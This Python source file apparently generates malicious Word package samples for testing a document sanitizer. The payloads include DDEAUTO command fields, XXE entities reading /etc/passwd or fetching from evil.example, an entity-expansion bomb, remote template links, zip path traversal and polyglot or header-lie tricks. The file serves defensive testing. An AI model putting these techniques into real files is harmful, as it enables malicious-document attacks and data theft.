"""Tricks with the package itself: names, types, encodings, entities, hidden branches, lies of the container."""
import struct

from . import excel, pictures, powerpoint, word
from .package import MICROSOFT, XML, Entry, Package, container, deflated
from .sample import BLOCKED, EITHER, Sample, slug
from .word import W, paragraph, text

MAIN = 'word/document.xml'
VBA_TYPE = 'application/vnd.ms-office.vbaProject'


def entry(name, content='<x>{m}</x>', **lies):
	"""One more entry in the container."""
	def build(p, mark):
		p.extra_entries.append(Entry(name.replace('{m}', mark) if isinstance(name, str) else name, content.replace('{m}', mark).encode('utf-8'), **lies))
	return build


def twin(name, first=False, part=MAIN):
	"""A second entry of that name with a field in it, before or after the true one."""
	def build(p, mark):
		evil = p.parts[part].replace('<!--BODY-->', paragraph(word.field('DDEAUTO cmd %s' % mark, 'x'))).encode('utf-8')
		p.extra_entries.append(Entry(name, evil))
		if first:
			true = p.entries
			p.entries = lambda: sorted(true(), key=lambda e: e.data != evil)
	return build


def part(name, content, content_type=None, relation=None, default=None):
	def build(p, mark):
		p.add(name, content.replace('{m}', mark), content_type)
		if default:
			p.defaults[name.rsplit('.', 1)[-1]] = default
		if relation:
			p.relate(MAIN, relation, '/' + name)
	return build


def document(change):
	def build(p, mark):
		p.parts[MAIN] = change(p.parts[MAIN], mark)
	return build


def body(xml):
	return lambda p, mark: p.at(MAIN, 'BODY', xml.replace('{m}', mark))


def head(xml, root='<w:document '):
	"""xml between the XML declaration and the root element."""
	return document(lambda t, mark: t.replace(root, xml.replace('{m}', mark) + root, 1))


def lies(name=MAIN, **kind):
	def build(p, mark):
		p.entry_lies[name] = {k: v(p, mark) if callable(v) else v for k, v in kind.items()}
	return build


def file(**kind):
	def build(p, mark):
		p.file_lies.update({k: v(mark) if callable(v) else v for k, v in kind.items()})
	return build


def marked(before=b'', after=b''):
	return lambda mark: before + mark.encode('ascii') + after


def other_local(p, mark):
	return b'word/' + mark.encode('ascii')


def retype(name, content_type):
	def build(p, mark):
		p.overrides[name] = content_type
		p.at(MAIN, 'BODY', paragraph(word.field('DDEAUTO cmd %s' % mark, 'x')))
	return build


def types(change):
	def build(p, mark):
		true = p.content_types
		p.content_types = lambda: change(true(), mark)
	return build


def relations(change, part_=MAIN):
	def build(p, mark):
		true = p.rels
		p.rels = lambda source: change(true(source), mark) if source == part_ else true(source)
	return build


HIDDEN = ('<mc:AlternateContent><mc:Choice Requires="%s" xmlns:nsx="urn:never" xmlns:nsy="urn:evil">%s</mc:Choice>%s</mc:AlternateContent>')
FIELD = word.field('DDEAUTO cmd {m}', '結果')
PICTURE = '<w:r>%s</w:r>' % word.picture('rIdEvil', 50, 'link')
BOMB = '<!DOCTYPE x [<!ENTITY a "{m}">%s]>\n' % ''.join('<!ENTITY %s "%s">' % (chr(98 + n), ('&%s;' % chr(97 + n)) * 10) for n in range(9))


def with_picture(xml):
	def build(p, mark):
		p.relate(MAIN, 'image', 'http://evil.example/%s.png' % mark, True, 'rIdEvil')
		p.at(MAIN, 'BODY', xml)
	return build


def utf16(p, mark):
	p.at(MAIN, 'BODY', paragraph(FIELD.replace('{m}', mark)))
	p.parts[MAIN] = p.parts[MAIN].replace('UTF-8', 'UTF-16').encode('utf-16')


def strict(p, mark):
	"""The strict variant (ISO/IEC 29500-1): other namespaces, the same attack."""
	p.at(MAIN, 'BODY', paragraph(FIELD.replace('{m}', mark)))
	swap = lambda t: t.replace('http://schemas.openxmlformats.org/wordprocessingml/2006/main', 'http://purl.oclc.org/ooxml/wordprocessingml/main') \
		.replace('http://schemas.openxmlformats.org/officeDocument/2006/relationships', 'http://purl.oclc.org/ooxml/officeDocument/relationships') \
		.replace('http://schemas.openxmlformats.org/drawingml/2006', 'http://purl.oclc.org/ooxml/drawingml')
	for name, content in p.parts.items():
		if isinstance(content, str) and name.startswith('word/'):
			p.parts[name] = swap(content)
	p.parts[MAIN] = p.parts[MAIN].replace('<w:document ', '<w:document w:conformance="strict" ')
	p.relationships = {source: [(number, relation.replace('http://schemas.openxmlformats.org/officeDocument/2006/relationships', 'http://purl.oclc.org/ooxml/officeDocument/relationships'),
		target, external) for number, relation, target, external in rows] for source, rows in p.relationships.items()}


def two_mains(p, mark):
	p.add('word/other.xml', p.parts[MAIN].replace('<!--BODY-->', paragraph(FIELD.replace('{m}', mark))), word.MAINS['docx'])
	p.relate('', 'officeDocument', 'word/other.xml')


def other_family(p, mark):
	"""A workbook with macros inside a Word package."""
	p.add('xl/workbook.xml', excel.WORKBOOK.replace('<!--NAMES-->', '<definedName name="_xlnm.Auto_Open">EXEC("%s")</definedName>' % mark), excel.MAINS['xlsm'])
	p.relate('', 'officeDocument', 'xl/workbook.xml')


# what goes changes nothing that anybody saw: a note at most
ANY = ('clean', 'sanitized', 'blocked')
ATTACKS = {
	'duplicate-after': (twin(MAIN), EITHER), 'duplicate-before': (twin(MAIN, True), EITHER), 'case-variant': (twin('Word/Document.xml'), EITHER),
	'case-variant-first': (twin('WORD/DOCUMENT.XML', True), EITHER), 'backslash-twin': (twin('word\\document.xml'), EITHER),
	'slash-twin': (twin('/word/document.xml'), EITHER), 'dot-twin': (twin('word/./document.xml'), EITHER), 'dotdot-twin': (twin('word/x/../document.xml'), EITHER),
	'percent-twin': (twin('word/%64ocument.xml'), EITHER), 'nul-twin': (twin(b'word/document.xml\0x'), EITHER), 'double-slash-twin': (twin('word//document.xml'), EITHER),
	'trailing-dot-twin': (twin('word/document.xml.'), EITHER), 'piece-twin': (twin('word/document.xml/[0].piece'), EITHER), 'wide-twin': (twin('ｗord/document.xml'), EITHER),
	'name-dotdot': (entry('../../{m}.txt'), EITHER), 'name-absolute': (entry('/etc/{m}'), EITHER), 'name-drive': (entry('C:\\{m}.exe'), EITHER),
	'name-backslash': (entry('word\\{m}.xml'), EITHER), 'name-nul': (entry(b'word/a.xml\0.exe'), EITHER), 'name-control': (entry(b'word/\x01\x1b[2J.xml'), EITHER),
	'name-bidi': (entry('word/\u202elmx.{m}'), EITHER), 'name-long': (entry('word/' + 'a' * 3000 + '{m}'), EITHER), 'name-empty': (entry(b''), EITHER),
	'unknown-part': (part('word/{m}.xml'.replace('{m}', 'evil'), '<evil>{m}</evil>'), EITHER), 'unknown-type': (part('word/evil.xml', '<evil>{m}</evil>', 'application/x-evil'), EITHER),
	'no-type': (part('word/evil.zzz', '{m}'), EITHER), 'unrelated-binary': (part('word/evil.bin', 'MZ {m}', 'application/octet-stream'), EITHER),
	'script-part': (part('word/evil.js', 'WScript.Echo("{m}")', None, None, 'application/javascript'), EITHER),
	'html-part': (part('index.html', '<script>{m}</script>', None, None, 'text/html'), EITHER),
	'manifest-part': (part('META-INF/MANIFEST.MF', 'Main-Class: {m}'), EITHER), 'mimetype-part': (part('mimetype', 'application/vnd.oasis.opendocument.text {m}'), EITHER),
	'odf-twin': (part('content.xml', '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">{m}</office:document-content>'), EITHER),
	'retype-default': (types(lambda t, m: t.replace('ContentType="application/xml"', 'ContentType="%s"' % VBA_TYPE).replace('<Default', '<!-- %s --><Default' % m, 1)), ANY),
	'retype-main-macro': (retype(MAIN, word.MAINS['docm']), EITHER), 'retype-main-case': (retype(MAIN, word.MAINS['docx'].upper()), EITHER),
	'retype-main-parameter': (retype(MAIN, word.MAINS['docx'] + '; charset=utf-7'), EITHER), 'retype-main-other': (retype(MAIN, excel.MAINS['xlsx']), EITHER),
	'retype-main-none': (retype(MAIN, 'application/xml'), EITHER), 'retype-styles': (retype('word/styles.xml', VBA_TYPE), EITHER),
	'retype-picture': (retype('word/media/image1.png', 'image/svg+xml'), EITHER),
	'types-twice': (types(lambda t, m: t.replace('</Types>', '<Override PartName="/word/document.xml" ContentType="%s"/><!-- %s --></Types>' % (VBA_TYPE, m))), ANY),
	'types-case': (types(lambda t, m: t.replace('</Types>', '<Override PartName="/WORD/document.XML" ContentType="%s"/><!-- %s --></Types>' % (VBA_TYPE, m))), ANY),
	'types-dtd': (types(lambda t, m: t.replace('<Types', '<!DOCTYPE Types [<!ENTITY e "%s">]><Types' % m)), EITHER),
	'relation-duplicate-id': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
		'attachedTemplate" Target="http://evil.example/%s" TargetMode="External"/></Relationships>' % m)), EITHER),
	'relation-case-mode': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
		'attachedTemplate" Target="http://evil.example/%s" TargetMode="external"/></Relationships>' % m)), EITHER),
	'relation-no-mode': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
		'attachedTemplate" Target="http://evil.example/%s"/></Relationships>' % m)), EITHER),
	'relation-blank-type': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdE" Type=" http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
		'attachedTemplate " Target="http://evil.example/%s" TargetMode="External"/></Relationships>' % m)), EITHER),
	'relation-strict-type': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdE" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" '
		'Target="http://evil.example/%s" TargetMode="External"/></Relationships>' % m)), EITHER),
	'relation-entities': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
		'&#97;ttachedTemplate" Target="&#104;ttp://evil.example/%s" TargetMode="Ex&#116;ernal"/></Relationships>' % m)), EITHER),
	'relation-escaping': (relations(lambda t, m: t.replace('</Relationships>', '<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
		'image" Target="../../../../%s.png"/></Relationships>' % m)), EITHER),
	'relation-base': (relations(lambda t, m: t.replace('<Relationships ', '<Relationships xml:base="http://evil.example/%s/" ' % m)), ANY),
	'relation-alternate': (relations(lambda t, m: t.replace('</Relationships>', '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Fallback>'
		'<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/%s" TargetMode="External"/>'
		'</mc:Fallback></mc:AlternateContent></Relationships>' % m)), EITHER),
	'relations-dtd': (relations(lambda t, m: t.replace('<Relationships', '<!DOCTYPE Relationships [<!ENTITY e SYSTEM "file:///etc/%s">]><Relationships' % m)), EITHER),
	'dtd-internal': (head('<!DOCTYPE w:document [<!ENTITY e "{m}">]>'), EITHER), 'dtd-system': (head('<!DOCTYPE w:document SYSTEM "http://evil.example/{m}.dtd">'), EITHER),
	'dtd-external-entity': (head('<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/passwd{m}">]>'), EITHER),
	'dtd-parameter': (head('<!DOCTYPE w:document [<!ENTITY % p SYSTEM "http://evil.example/{m}"> %p;]>'), EITHER), 'dtd-bomb': (head(BOMB), EITHER),
	'dtd-default-attribute': (head('<!DOCTYPE w:document [<!ATTLIST w:document evil CDATA "{m}">]>'), EITHER),
	'entity-used': (lambda p, m: (head('<!DOCTYPE w:document [<!ENTITY e "DDEAUTO cmd {m}">]>')(p, m), p.at(MAIN, 'BODY', paragraph(word.field('&e;', 'x')))), EITHER),
	'entity-unknown': (body(paragraph(text('&evil; {m}'))), EITHER),
	'instruction-stylesheet': (head('<?xml-stylesheet type="text/xsl" href="http://evil.example/{m}.xsl"?>'), ('sanitized', 'clean')),
	'instruction-office': (head('<?mso-application progid="{m}"?>'), ('sanitized', 'clean')),
	'instruction-inside': (body('<?evil {m}?>'), ('sanitized', 'clean')), 'comment-inside': (body('<!-- {m} -->'), ('sanitized', 'clean')),
	'comment-before': (head('<!-- {m} -->'), ('sanitized', 'clean')), 'after-root': (document(lambda t, m: t + '<!-- %s -->' % m), ('sanitized', 'clean')),
	'second-root': (document(lambda t, m: t + '<evil>%s</evil>' % m), EITHER), 'xinclude': (body('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/{m}" parse="text"/>'),
		('sanitized', 'clean')),
	'xml-base': (body('<w:p xml:base="http://evil.example/{m}/"/>'), ('sanitized', 'clean')), 'xml-id': (body('<w:p xml:id="{m}"/>'), ('sanitized', 'clean')),
	'xlink': (body('<w:p xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="http://evil.example/{m}" xlink:actuate="onLoad"/>'), ('sanitized', 'clean')),
	'html-in-xml': (body('<w:p><script xmlns="http://www.w3.org/1999/xhtml">{m}</script></w:p>'), ('sanitized', 'clean')),
	'namespace-swap': (body('<w:p xmlns:w="urn:evil"><w:r><w:t>{m}</w:t></w:r></w:p>'), ('sanitized', 'clean')),
	'choice-unknown': (body(paragraph(HIDDEN % ('nsx', FIELD, ''))), ('sanitized',)), 'choice-known': (body(paragraph(HIDDEN % ('w14', FIELD, ''))), ('sanitized',)),
	'fallback': (body(paragraph(HIDDEN % ('w14', text('x'), '<mc:Fallback>%s</mc:Fallback>' % FIELD))), ('sanitized',)),
	'choice-nested': (body(paragraph(HIDDEN % ('w14', HIDDEN % ('nsx', FIELD, ''), '<mc:Fallback>%s</mc:Fallback>' % (HIDDEN % ('w14', FIELD, ''))))), ('sanitized',)),
	'choice-picture': (with_picture(paragraph(HIDDEN % ('w14', PICTURE, ''))), ('sanitized',)), 'fallback-picture': (with_picture(paragraph(HIDDEN % ('w14', text('x'), '<mc:Fallback>%s</mc:Fallback>'
		% PICTURE))), ('sanitized',)),
	'ignorable-unknown': (document(lambda t, m: t.replace('mc:Ignorable="', 'xmlns:evil="urn:evil" mc:Ignorable="evil ').replace('<!--BODY-->', '<evil:run>%s</evil:run>' % m)),
		('sanitized', 'clean')),
	'process-content': (document(lambda t, m: t.replace('mc:Ignorable="', 'xmlns:evil="urn:evil" mc:ProcessContent="evil:*" mc:Ignorable="evil ').replace('<!--BODY-->', '<evil:run>%s</evil:run>'
		% paragraph(FIELD.replace('{m}', m)))), ('sanitized', 'clean')),
	'utf-16': (utf16, ('sanitized',)), 'strict': (strict, ('sanitized',)),
	'encoding-lie': (document(lambda t, m: t.replace('UTF-8', 'UTF-16').replace('<!--BODY-->', paragraph(FIELD.replace('{m}', m)))), EITHER),
	'overlong-utf8': (lambda p, m: p.parts.__setitem__(MAIN, p.parts[MAIN].replace('<!--BODY-->', paragraph(FIELD.replace('{m}', m))).encode('utf-8').replace(b'DDEAUTO', b'\xc1\x84DEAUTO')), EITHER),
	'two-mains': (two_mains, EITHER), 'other-family': (other_family, EITHER),
	'before': (file(before=marked(b'#!/bin/sh\n', b'\n')), EITHER), 'before-exe': (file(before=marked(b'MZ\x90\0' + b'\0' * 60)), EITHER), 'before-pdf': (file(before=marked(b'%PDF-1.7\n', b'\n')), EITHER),
	'before-html': (file(before=marked(b'<html><script>', b'</script>')), EITHER), 'before-jpeg': (file(before=lambda m: pictures.jpeg(after_end=m.encode())), EITHER),
	'after': (file(after=marked()), EITHER), 'after-zip': (file(after=lambda m: container([Entry('evil.exe', b'MZ' + m.encode())])), EITHER), 'after-long': (file(after=lambda m: m.encode() + b'\0' * 70000), EITHER),
	'comment': (file(comment=marked()), ('sanitized', 'clean')), 'between': (file(between=marked()), EITHER),
	'hidden-entry': (entry('word/hidden.exe', 'MZ{m}', no_directory=True), EITHER), 'ghost-entry': (entry('word/ghost.xml', '{m}', no_local=True, offset=0), EITHER),
	'local-name': (lies(local_name=other_local), EITHER), 'local-method': (lies(local_method=0), EITHER), 'local-sizes': (lies(local_size=1, local_packed_size=2), EITHER),
	'local-crc': (lies(local_crc=0x12345678), EITHER), 'local-flags': (lies(local_flags=1), EITHER), 'wrong-crc': (lies(crc=0x12345678), EITHER),
	'size-small': (lies(size=10), EITHER), 'size-large': (lies(size=0x7fffffff), EITHER), 'packed-large': (lies(packed_size=0x7fffffff, local_packed_size=0x7fffffff), EITHER),
	'encrypted-bit': (lies(flags=1), EITHER), 'strong-encryption': (lies(flags=0x41), EITHER), 'method-unknown': (lies(method_said=99, local_method=99), EITHER),
	'method-lzma': (lies(method_said=14, local_method=14), EITHER), 'extra-field': (lies(extra=lambda p, m: struct.pack('<HH', 0xcafe, len(m)) + m.encode()), ('sanitized', 'clean')),
	'extra-unicode-path': (lies(extra=lambda p, m: struct.pack('<HHBI', 0x7075, 5 + len(m), 1, 0) + m.encode()), ANY), 'extra-broken': (lies(extra=lambda p, m: b'\x01\0\xff\xff' + m.encode()), EITHER),
	'entry-comment': (lies(comment=lambda p, m: m.encode()), ('sanitized', 'clean')), 'symlink': (entry('word/link', '/etc/passwd {m}', made_by=0x031e, attributes=0o120777 << 16), EITHER),
	'descriptor': (lies(flags=8), ('sanitized', 'clean')), 'zip64': (file(zip64=True), ('sanitized', 'clean')), 'zip64-count': (file(zip64={'count': 1 << 40}), EITHER),
	'zip64-start': (file(zip64={'start': 1 << 62}), EITHER), 'zip64-size': (file(zip64={'size': (1 << 64) - 1}), EITHER), 'zip64-locator': (file(zip64={'locator': 1 << 63}), EITHER),
	'count-lie': (file(end=lambda m: lambda n, size, start: struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 1, 1, size, start, 0)), EITHER),
	'directory-lie': (file(end=lambda m: lambda n, size, start: struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, n, n, size, 0xfffffff0, 0)), EITHER),
	'multi-disk': (file(end=lambda m: lambda n, size, start: struct.pack('<IHHHHIIH', 0x06054b50, 1, 1, n, n, size, start, 0)), EITHER),
	'two-ends': (file(after=lambda m: struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, 0, 0, 0, 0, 0)), EITHER),
	'directory-digits': (file(directory_extra=b'PK\x05\x05\x04\0evil'), EITHER),
}
# these hold no marker that could cross, or none that the container may not keep; the verdict and the audit tell
NO_MARK = {'local-method', 'local-sizes', 'local-crc', 'local-flags', 'wrong-crc', 'size-small', 'size-large', 'packed-large', 'encrypted-bit', 'strong-encryption', 'method-unknown', 'method-lzma', 'descriptor',
	'zip64', 'zip64-count', 'zip64-start', 'zip64-size', 'zip64-locator', 'count-lie', 'directory-lie', 'multi-disk', 'two-ends', 'directory-digits', 'name-nul', 'name-control', 'name-empty', 'entity-unknown'}
FINDINGS = {'before': ('container-trailing', 'polyglot'), 'after': ('container-trailing',), 'after-zip': ('container-trailing', 'blocked-damaged'), 'local-sizes': ('container-mismatch',), 'local-method': ('container-mismatch',),
	'unknown-part': ('part-removed',), 'choice-known': ('field-removed',)}
TELLING = {'duplicate-after', 'case-variant', 'after-zip', 'dtd-bomb', 'choice-unknown', 'utf-16', 'local-sizes'}
QUIET = {'descriptor', 'zip64', 'retype-main-case', 'xml-id', 'namespace-swap', 'no-type', 'unknown-type', 'unknown-part', 'retype-styles'}


def encrypted_package(mark, keep):
	"""Office encryption: an OLE2 file with EncryptedPackage (MS-OFFCRYPTO 2.3)."""
	def directory(name, kind, child=0xffffffff, start=0xfffffffe, size=0, left=0xffffffff, right=0xffffffff):
		raw = name.encode('utf-16-le')
		return raw + b'\0' * (64 - len(raw)) + struct.pack('<HBBIII', len(raw) + 2, kind, 1, left, right, child) + b'\0' * 36 + struct.pack('<IQ', start, size)
	sectors = [struct.pack('<128I', 0xfffffffd, 0xfffffffe, *range(3, 11), 0xfffffffe, *range(12, 20), 0xfffffffe, *([0xffffffff] * 108))]
	sectors.append(directory('Root Entry', 5, 1) + directory('EncryptionInfo', 2, start=2, size=4608, right=2) + directory('EncryptedPackage', 2, start=11, size=4608) + b'\0' * 128)
	sectors += [b'\x04\0\x04\0' + b'\0' * 508] * 9 + [mark.encode('ascii').ljust(512, b'\0')] * 9
	header = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 16 + struct.pack('<HHHHH6sIIIIIIIIII', 0x3e, 3, 0xfffe, 9, 6, b'', 0, 1, 1, 0, 4096, 0xfffffffe, 0, 0xfffffffe, 0, 0)
	return header + b'\xff' * 432 + b''.join(sectors)


def samples():
	for name, (build, verdicts) in ATTACKS.items():
		def make(mark, keep, build=build):
			p = word.package(keep)
			build(p, mark)
			return p.bytes()
		yield Sample('package/%s.docx' % slug(name), 'ooxml/package', make, verdicts=verdicts, findings=FINDINGS.get(name, ()), gone=() if name in NO_MARK else None, telling=name in TELLING,
			quiet=name in QUIET)
	for extension in ('docx', 'xlsx', 'pptx'):
		yield Sample('package/encrypted.%s' % extension, 'ooxml/package', encrypted_package, verdicts=BLOCKED, findings=('blocked-password',), telling=extension == 'docx', quiet=True)
	for name, family in (('xlsx-as.docx', excel), ('pptx-as.xlsx', powerpoint), ('docx-as.txt', word), ('docx-as.jpg', word)):
		yield Sample('package/renamed-%s' % name, 'ooxml/package', lambda mark, keep, family=family: family.package(keep).bytes(), verdicts=('clean', 'sanitized'), quiet=True)
